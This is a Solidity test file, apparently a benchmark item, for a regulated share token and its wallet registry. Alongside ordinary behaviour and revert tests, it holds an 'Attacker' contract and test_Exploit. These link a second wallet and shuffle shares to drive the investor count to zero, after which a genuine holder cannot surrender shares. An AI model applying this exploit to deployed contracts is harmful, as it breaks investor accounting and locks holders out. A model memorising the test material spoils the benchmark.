// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.19;

// assay-canary-95e89204-481b-473f-8312-2f434653f28e

import "./RegShares.sol";
import "./context/Registry.sol";

interface Vm {
    function warp(uint256 t) external;
    function expectRevert() external;
    function expectRevert(bytes calldata why) external;
    function prank(address w) external;
    function startPrank(address w) external;
    function stopPrank() external;
}

contract Coin is ERC20("Coin", "COIN") {
    address private immutable o = msg.sender;

    function mint(address w, uint256 n) external {
        require(msg.sender == o, "owner only");
        _mint(w, n);
    }
}

contract Wallet {
    function send(RegShares s, address t, uint256 n) external {
        s.transfer(t, n);
    }

    function accept(Registry g, uint256 i) external {
        g.accept(i);
    }
}

contract Attacker {
    Wallet private b;

    function run(RegShares s) external {
        Registry g = Registry(address(s.reg()));
        b = new Wallet();
        g.offer(address(b), true);
        b.accept(g, g.idOf(address(this)));
        for (uint256 k; k < 3 && s.cnt() > 0; ++k) {
            if (k % 2 == 0) s.transfer(address(b), 1);
            else b.send(s, address(this), 1);
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant T = 1_760_000_000;
    address private constant ADA = address(0xADA);
    address private constant ADA2 = address(0xADA2);
    address private constant BO = address(0xB0);
    address private constant CY = address(0xC1);
    address private constant DI = address(0xD1);

    Coin public coin;
    Registry public reg;
    RegShares public shares;
    Attacker public mal;

    function setUp() public {
        vm.warp(T);
        coin = new Coin();
        reg = new Registry();
        shares = new RegShares(reg, coin, 3);
        mal = new Attacker();
        reg.enrol(ADA, 1);
        reg.enrol(BO, 1);
        reg.enrol(CY, 1);
        reg.enrol(address(mal), 1);
        reg.enrol(DI, 2);
        shares.issue(ADA, 600);
        shares.issue(BO, 399);
        shares.issue(address(mal), 1);
        coin.mint(address(this), 1_000_000);
        coin.approve(address(shares), type(uint256).max);
        vm.warp(T + 100 days);
    }

    function leave() external {
        vm.prank(ADA);
        shares.surrender(600);
    }

    function test_Regular() public {
        require(shares.cnt() == 3 && shares.seats() == 0 && shares.decimals() == 0, "full");
        vm.startPrank(ADA);
        reg.offer(BO, true);
        reg.offer(BO, false);
        reg.offer(ADA2, true);
        vm.stopPrank();
        vm.prank(ADA2);
        reg.accept(1);
        require(reg.walletsOf(1).length == 2 && reg.idOf(ADA2) == 1, "linked");
        vm.prank(ADA);
        shares.transfer(ADA2, 100);
        require(shares.cnt() == 3 && shares.sharesOf(ADA) == 600 && shares.balanceOf(ADA2) == 100, "one investor");
        shares.declare(5_000);
        require(shares.pending(ADA) == 2_500 && shares.pending(ADA2) == 500, "dividend");

        vm.startPrank(BO);
        shares.approve(address(this), 300);
        shares.increaseAllowance(address(this), 100);
        shares.decreaseAllowance(address(this), 1);
        vm.stopPrank();
        shares.transferFrom(BO, ADA, 399);
        require(shares.cnt() == 2 && shares.cntIn(1) == 2, "one has left");
        vm.prank(ADA);
        shares.transfer(CY, 899);
        require(shares.cnt() == 3 && shares.sharesOf(ADA) == 100, "one has come");
        vm.prank(ADA);
        require(shares.collect() == 2_500 && coin.balanceOf(ADA) == 2_500, "collected");
        vm.prank(BO);
        require(shares.collect() == 1_995, "collected by one who left");
        vm.prank(CY);
        require(shares.collect() == 0, "came later");
        lots();
    }

    function lots() private {
        shares.setCap(4);
        shares.setCapIn(2, 1);
        shares.setLock(30 days);
        address[] memory w = new address[](2);
        uint256[] memory n = new uint256[](2);
        (w[0], w[1], n[0], n[1]) = (CY, DI, 1, 50);
        shares.issueMany(w, n);
        require(shares.cnt() == 4 && shares.cntIn(2) == 1 && shares.free(3) == 899 && shares.free(5) == 0, "issued");
        vm.prank(DI);
        shares.surrender(10);
        shares.open(12, 100, 10 days);
        require(coin.balanceOf(address(shares)) == 505 + 1_200, "set aside");
        vm.prank(DI);
        shares.tender(40);
        require(coin.balanceOf(DI) == 480 && shares.cnt() == 3 && shares.cntIn(2) == 0, "tendered");
        vm.warp(T + 110 days + 1);
        uint256 had = coin.balanceOf(address(this));
        shares.close();
        require(coin.balanceOf(address(this)) == had + 720, "closed");
        shares.freeze(1, true);
        shares.freeze(1, false);
        shares.halt(true);
        vm.prank(ADA2);
        shares.surrender(100);
        shares.halt(false);
        require(shares.cnt() == 2 && shares.totalSupply() == 901, "surrendered");
        vm.warp(T + 131 days);
        require(shares.free(3) == 900, "unlocked");
        shares.issue(CY, 3);
        roles();
    }

    function roles() private {
        bytes32 r = shares.LEGAL();
        require(shares.supportsInterface(type(IERC20).interfaceId), "erc20");
        require(shares.supportsInterface(type(IAccessControl).interfaceId), "roles");
        shares.grantRole(r, BO);
        require(shares.hasRole(r, BO), "granted");
        shares.revokeRole(r, BO);
        shares.renounceRole(r, address(this));
        require(!shares.hasRole(r, BO) && !shares.hasRole(r, address(this)), "gone");
        reg.transferOwnership(BO);
        vm.startPrank(BO);
        reg.acceptOwnership();
        reg.renounceOwnership();
        vm.stopPrank();
    }

    function no(address w, bytes4 e) private {
        vm.prank(w);
        vm.expectRevert(abi.encodePacked(e));
    }

    function role(bytes32 r) private {
        bytes memory b = "0123456789abcdef";
        bytes memory h = new bytes(64);
        for (uint256 k; k < 32; ++k) {
            h[2 * k] = b[uint8(r[k]) >> 4];
            h[2 * k + 1] = b[uint8(r[k]) & 15];
        }
        vm.prank(ADA);
        vm.expectRevert(
            abi.encodePacked("AccessControl: account 0x0000000000000000000000000000000000000ada is missing role 0x", h)
        );
    }

    function test_RefusesStrangers() public {
        coin.mint(ADA, 100);
        vm.prank(ADA);
        coin.approve(address(shares), 100);
        bytes32 r = shares.ISSUER();
        role(r);
        shares.issue(ADA, 1);
        role(r);
        shares.issueMany(new address[](0), new uint256[](0));
        role(r);
        shares.declare(1);
        role(r);
        shares.open(1, 1, 1);
        role(r);
        shares.close();
        r = shares.LEGAL();
        role(r);
        shares.freeze(1, true);
        role(r);
        shares.halt(true);
        role(r);
        shares.setCap(9);
        role(r);
        shares.setCapIn(1, 9);
        role(r);
        shares.setLock(9);
        bytes32 a = shares.DEFAULT_ADMIN_ROLE();
        role(a);
        shares.grantRole(r, ADA);
        role(a);
        shares.revokeRole(r, address(this));
    }

    function test_RefusesStrangersAtTheRegistry() public {
        bytes memory why = "Ownable: caller is not the owner";
        vm.startPrank(ADA);
        vm.expectRevert(why);
        reg.enrol(ADA2, 1);
        vm.expectRevert(why);
        reg.transferOwnership(ADA);
        vm.expectRevert(why);
        reg.renounceOwnership();
        vm.expectRevert("Ownable2Step: caller is not the new owner");
        reg.acceptOwnership();
        vm.stopPrank();
    }

    function test_RefusesWallets() public {
        vm.expectRevert(abi.encodePacked(Registry.Taken.selector));
        reg.enrol(ADA, 1);
        no(ADA2, Registry.Unknown.selector);
        reg.offer(ADA, true);
        no(ADA2, Registry.NotOffered.selector);
        reg.accept(1);
        vm.prank(BO);
        reg.offer(ADA, true);
        no(ADA, Registry.Taken.selector);
        reg.accept(2);
        for (uint160 k = 1; k < 11; ++k) {
            vm.prank(ADA);
            reg.offer(address(k), true);
            vm.prank(address(k));
            if (k == 10) vm.expectRevert(abi.encodePacked(Registry.TooMany.selector));
            reg.accept(1);
        }
    }

    function test_RefusesShares() public {
        vm.expectRevert(abi.encodePacked(RegShares.None.selector));
        shares.issue(ADA, 0);
        no(ADA, RegShares.None.selector);
        shares.surrender(0);
        no(ADA, RegShares.None.selector);
        shares.transfer(BO, 0);
        no(ADA, RegShares.Unknown.selector);
        shares.transfer(ADA2, 1);
        no(ADA2, RegShares.Unknown.selector);
        shares.surrender(1);
        vm.expectRevert(abi.encodePacked(RegShares.Unknown.selector));
        shares.sharesOf(ADA2);
        vm.expectRevert(abi.encodePacked(RegShares.Lengths.selector));
        shares.issueMany(new address[](1), new uint256[](0));
        vm.prank(ADA);
        vm.expectRevert();
        shares.surrender(601);
    }

    function test_RefusesFrozenInvestors() public {
        vm.expectRevert(abi.encodePacked(RegShares.Unknown.selector));
        shares.freeze(0, true);
        shares.freeze(1, true);
        no(ADA, RegShares.Frozen.selector);
        shares.transfer(BO, 1);
        no(BO, RegShares.Frozen.selector);
        shares.transfer(ADA, 1);
        no(ADA, RegShares.Frozen.selector);
        shares.surrender(1);
    }

    function test_RefusesSales() public {
        shares.halt(true);
        no(ADA, RegShares.Stopped.selector);
        shares.transfer(BO, 1);
        shares.halt(false);
        shares.issue(ADA, 5);
        no(ADA, RegShares.Locked.selector);
        shares.transfer(BO, 601);
        vm.prank(ADA);
        shares.transfer(BO, 600);
        vm.prank(BO);
        shares.surrender(2);
        vm.expectRevert("ERC20: insufficient allowance");
        shares.transferFrom(BO, ADA, 1);
    }

    function test_RefusesMoreInvestors() public {
        no(ADA, RegShares.Full.selector);
        shares.transfer(CY, 100);
        vm.expectRevert(abi.encodePacked(RegShares.Full.selector));
        shares.issue(DI, 1);
        vm.expectRevert(abi.encodePacked(RegShares.TooLow.selector));
        shares.setCap(2);
        vm.expectRevert(abi.encodePacked(RegShares.TooLow.selector));
        shares.setCapIn(1, 2);
        shares.setCap(9);
        shares.setCapIn(1, 3);
        no(ADA, RegShares.Full.selector);
        shares.transfer(CY, 100);
        shares.setCapIn(1, 0);
        vm.prank(ADA);
        shares.transfer(CY, 100);
    }

    function test_RefusesSettings() public {
        vm.expectRevert(abi.encodePacked(RegShares.TooLong.selector));
        shares.setLock(365 days + 1);
        vm.expectRevert(abi.encodePacked(RegShares.TooLong.selector));
        shares.open(1, 1, 60 days + 1);
        vm.expectRevert(abi.encodePacked(RegShares.BadTender.selector));
        shares.open(0, 1, 1 days);
        vm.expectRevert(abi.encodePacked(RegShares.BadTender.selector));
        shares.open(1, 0, 1 days);
        shares.open(1, 9, 1 days);
        vm.expectRevert(abi.encodePacked(RegShares.BadTender.selector));
        shares.open(1, 1, 1 days);
        vm.expectRevert(abi.encodePacked(RegShares.StillOpen.selector));
        shares.close();
        no(ADA, RegShares.BadTender.selector);
        shares.tender(10);
        vm.warp(T + 101 days + 1);
        no(ADA, RegShares.BadTender.selector);
        shares.tender(1);
    }

    function test_RefusesLots() public {
        for (uint256 k; k < 20; ++k) shares.issue(ADA, 1);
        vm.expectRevert(abi.encodePacked(Lots.TooManyLots.selector));
        shares.issue(ADA, 1);
        vm.expectRevert("SafeCast: value doesn't fit in 128 bits");
        shares.issue(BO, 1 << 128);
    }

    function test_RefusesDividendsForNobody() public {
        RegShares s = new RegShares(reg, coin, 1);
        coin.approve(address(s), 1);
        vm.expectRevert(abi.encodePacked(Payouts.NoShares.selector));
        s.declare(1);
    }

    function exploit() public {
        mal.run(shares);
    }

    function test_Exploit() public {
        exploit();
        require(shares.cnt() == 0, "count as it should be");
        try this.leave() {
            revert("left");
        } catch {}
    }

    function target() public view returns (address) {
        return address(shares);
    }

    function attacker() public view returns (address) {
        return address(mal);
    }
}
